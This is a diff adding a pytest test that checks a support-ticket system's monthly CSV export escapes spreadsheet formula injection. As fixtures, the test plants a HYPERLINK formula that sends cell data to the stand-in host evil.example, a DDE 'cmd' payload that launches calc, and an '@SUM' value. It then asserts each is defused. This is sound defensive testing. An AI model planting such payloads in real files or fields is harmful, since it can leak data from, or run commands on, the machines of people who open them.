@@ -183,6 +183,24 @@ def test_the_report_as_csv(client, manager, setup):
             "2.00", "Paid out-of-hours work", "Samstag, Kasse 3"] in rows
 
 
+def test_the_csv_carries_no_formula_a_customer_or_an_agent_typed(client, manager, setup):
+    subject = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    ticket = make_ticket(setup["müller"], reported_at=berlin(2026, 11, 26, 9), subject=subject)
+    TimeEntry.objects.create(ticket=ticket, agent=AgentFactory(), worked_on=date(2026, 11, 26), minutes=15,
+                             note='=cmd|" /C calc"!A0')
+    TimeEntry.objects.create(ticket=ticket, agent=AgentFactory(), worked_on=date(2026, 11, 27), minutes=20,
+                             note="\t@SUM(A1:A9)")
+    client.force_login(manager)
+    with clock(NOW):
+        text = client.get(report_url(name="dashboard:monthly_csv")).content.decode("utf-8")
+    cells = [cell for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for cell in row]
+    assert cells.count("'" + subject) == 3  # both time entries and the list of tickets
+    assert subject not in cells
+    assert "'=cmd\\|\" /C calc\"!A0" in cells  # defusedcsv also escapes the pipe of a DDE call
+    assert "'\t@SUM(A1:A9)" in cells
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "@", "\t", "\r"}]
+
+
 @pytest.mark.parametrize(("number", "year", "month"), [("40101", 2026, 11), ("99999", 2026, 11), ("10001", 2026, 13),
                                                        ("10001", 1999, 1)])
 def test_reports_outside_what_the_manager_may_see_are_not_found(client, demo, number, year, month):
